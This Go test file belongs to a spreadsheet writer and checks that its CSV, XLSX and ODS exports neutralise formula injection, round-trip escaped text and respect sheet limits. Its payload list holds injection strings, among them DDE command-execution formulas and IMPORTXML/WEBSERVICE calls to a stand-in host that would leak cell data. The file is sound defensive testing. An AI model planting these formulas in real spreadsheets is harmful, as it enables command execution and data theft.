package spreadsheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// payloads are texts that a spreadsheet program would run, or that hide one.
var payloads = []string{
	"=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"click\")", "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
	"=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1\";=2+2", "+1+1", "+cmd|'/C calc'!A0", "+SUM(A1:A9)",
	"-1+1", "-2+3+cmd|'/C calc'!A0", "- item of a list", "-£5,605", "@SUM(1+1)*cmd|'/C calc'!A0", "@A1", "@here",
	"\t=1+1", "\ttabbed", "\r=1+1", "\r\n=1+1", "\n=1+1", "\x00=1+1", "\x00", " =1+1", "   +1", "\u00a0=1+1", "'=1+1", "''=1+1", "' =1+1",
	"＝1+1", "＋1", "－1", "＠A1", "=\"a,b\"", "=1+1,=2+2", "\"=1+1\"", "a\"=1+1", "a,=1+1", "a\n=1+1", "=", "+", "-", "@", "%0A-3+3+cmd|'/C calc'!D2",
	";=1+1", "=A1&\"\u2028\"",
}

// harmless are texts that must come through as they are, in CSV too.
var harmless = []string{
	"", "City Deal", "Children's Partnership Board – Preston", "£5,605", "13-15", "007", "1+1", "a=b", "'quoted'", "'", "O'Brien", "two\nlines", "a, \"b\"", " blank before",
	"blank after ", "a  b   c", "tab\tinside", "_x0041_ is not A", "😀 and &amp; <b>", "2016/17",
}

func texts() []string { return slices.Concat(payloads, harmless) }

// write makes a file of one row of headings and one row for each text, which stands in it twice.
func write(t *testing.T, format Format, texts []string) []byte {
	t.Helper()
	var file bytes.Buffer
	w, err := NewWriter(&file, format, "Partnerships")
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Row([]string{"name", "note"}); err != nil {
		t.Fatal(err)
	}
	for _, text := range texts {
		if err := w.Row([]string{text, text}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return file.Bytes()
}

func TestCSVHasNoFormula(t *testing.T) {
	text, marked := strings.CutPrefix(string(write(t, CSV, texts())), ByteOrderMark)
	if !marked {
		t.Error("nothing says that the text is UTF-8")
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, text := range texts() {
		for _, cell := range rows[i+1] {
			if begins := strings.TrimLeft(cell, " \u00a0"); begins != "" && strings.ContainsAny(firstRune(begins), dangerous) {
				t.Errorf("%q is written as %q, which is a formula", text, cell)
			}
			if got := Unescape(cell); got != Legible(text) {
				t.Errorf("%q comes back as %q", text, got)
			}
		}
	}
	for i, text := range harmless {
		if got := rows[len(payloads)+i+1][0]; got != text {
			t.Errorf("%q is written as %q, and needs no escape", text, got)
		}
	}
}

func TestRawCSVIsUnaltered(t *testing.T) {
	file := string(write(t, RawCSV, texts()))
	if !strings.HasPrefix(file, "name,note\r\n") {
		t.Errorf("it begins with %q", file[:20])
	}
	for _, text := range texts() {
		quoted := `"` + strings.ReplaceAll(text, `"`, `""`) + `"`
		if !strings.Contains(file, "\n"+text+","+text+"\r\n") && !strings.Contains(file, "\n"+quoted+","+quoted+"\r\n") {
			t.Errorf("%q is not written as it is", text)
		}
	}
}

func TestXLSXHasTextOnly(t *testing.T) {
	file := write(t, XLSX, texts())
	sheet := part(t, file, "xl/worksheets/sheet1.xml")
	if strings.Contains(sheet, "<f") {
		t.Error("the sheet has a formula")
	}
	if cells, typed := strings.Count(sheet, "<c "), strings.Count(sheet, `t="inlineStr"`); cells != typed {
		t.Errorf("%d of %d cells are typed as text", typed, cells)
	}
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	if got := book.GetSheetName(0); got != "Partnerships" {
		t.Errorf("the sheet is called %q", got)
	}
	for i, text := range texts() {
		cell := fmt.Sprintf("B%d", i+2)
		got, err := book.GetCellValue("Partnerships", cell)
		if err != nil {
			t.Fatal(err)
		}
		if formula, _ := book.GetCellFormula("Partnerships", cell); formula != "" {
			t.Errorf("%q is the formula %q", text, formula)
		}
		if got != Legible(text) {
			t.Errorf("%q comes back as %q", text, got)
		}
	}
}

func TestODSHasTextOnly(t *testing.T) {
	file := write(t, ODS, texts())
	if want := "mimetypeapplication/vnd.oasis.opendocument.spreadsheet"; string(file[30:30+len(want)]) != want {
		t.Error("the file does not begin by saying what it is")
	}
	content := part(t, file, "content.xml")
	if strings.Contains(content, "formula") {
		t.Error("the table has a formula")
	}
	rows := odsRows(t, content)
	for i, text := range texts() {
		if got := rows[i+1][1]; got != Legible(text) {
			t.Errorf("%q comes back as %q", text, got)
		}
	}
}

// part gives one part of an archive.
func part(t *testing.T, file []byte, name string) string {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := archive.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	content, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return string(content)
}

// odsRows reads the cells of a table as a spreadsheet program does.
func odsRows(t *testing.T, content string) [][]string {
	t.Helper()
	var rows [][]string
	var paragraphs []string
	d := xml.NewDecoder(strings.NewReader(content))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return rows
		}
		if err != nil {
			t.Fatal(err)
		}
		switch e := token.(type) {
		case xml.StartElement:
			switch e.Name.Local {
			case "table-row":
				rows = append(rows, nil)
			case "table-cell":
				paragraphs = nil
			case "p":
				paragraphs = append(paragraphs, "")
			case "s":
				var n int
				_, _ = fmt.Sscan(e.Attr[0].Value, &n)
				paragraphs[len(paragraphs)-1] += strings.Repeat(" ", n)
			case "tab":
				paragraphs[len(paragraphs)-1] += "\t"
			}
		case xml.CharData:
			if len(paragraphs) > 0 {
				paragraphs[len(paragraphs)-1] += string(e)
			}
		case xml.EndElement:
			if e.Name.Local == "table-cell" {
				last := len(rows) - 1
				rows[last] = append(rows[last], strings.Join(paragraphs, "\n"))
				paragraphs = nil
			}
		}
	}
}

func TestEscapeIsUndone(t *testing.T) {
	letters := []rune("''=+-@\t\r\n\x00 a＝\u00a0é")
	random := rand.New(rand.NewPCG(1, 2))
	for range 20_000 {
		text := make([]rune, random.IntN(6))
		for i := range text {
			text[i] = letters[random.IntN(len(letters))]
		}
		if got := Unescape(Escape(string(text))); got != string(text) {
			t.Fatalf("%q comes back as %q", string(text), got)
		}
	}
}

func TestRowsAreWrittenAsTheyCome(t *testing.T) {
	random := rand.New(rand.NewPCG(1, 2))
	for _, format := range []Format{CSV, XLSX, ODS} {
		t.Run(format.Extension(), func(t *testing.T) {
			var file bytes.Buffer
			w, err := NewWriter(&file, format, "x")
			if err != nil {
				t.Fatal(err)
			}
			for range 2_000 {
				if err := w.Row([]string{fmt.Sprint(random.Uint64(), random.Uint64(), random.Uint64(), random.Uint64())}); err != nil {
					t.Fatal(err)
				}
			}
			before := file.Len()
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			if before < file.Len()/3 { // the compressor keeps 64 KiB at most
				t.Errorf("%d of %d bytes were written before the end", before, file.Len())
			}
		})
	}
}

func TestLimitsOfSheetsAreNamed(t *testing.T) {
	for name, test := range map[string]struct {
		cells []string
		want  string
	}{
		"a cell too long":  {[]string{"a", strings.Repeat("é", MaxCell+1)}, "row 1, column 2: a cell holds 32767 characters at most, and the text has 32768"},
		"too many columns": {make([]string, MaxColumns+1), "row 1: a sheet has 16384 columns at most, and these are 16385"},
	} {
		t.Run(name, func(t *testing.T) {
			for _, format := range []Format{XLSX, ODS} {
				w, err := NewWriter(io.Discard, format, "x")
				if err != nil {
					t.Fatal(err)
				}
				var limit *LimitError
				if err := w.Row(test.cells); !errors.As(err, &limit) || err.Error() != test.want {
					t.Errorf("%s: %v, want %q", format.Extension(), err, test.want)
				}
			}
			w, err := NewWriter(io.Discard, CSV, "x")
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Row(test.cells); err != nil {
				t.Errorf("CSV has no such limit, and gave %v", err)
			}
		})
	}
	if err := fits(MaxRows+1, nil); err == nil {
		t.Error("a sheet took a row too many")
	}
	if err := fits(1, []string{strings.Repeat("é", MaxCell)}); err != nil {
		t.Errorf("a cell that fits was refused: %v", err)
	}
}

func TestSheetNames(t *testing.T) {
	for title, want := range map[string]string{
		"Partnerships": "Partnerships", "a/b:c*d": "a b c d", "": "Sheet1", "'": "Sheet1", strings.Repeat("é", 40): strings.Repeat("é", 31),
	} {
		if got := sheetName(title); got != want {
			t.Errorf("sheetName(%q) = %q, want %q", title, got, want)
		}
	}
}
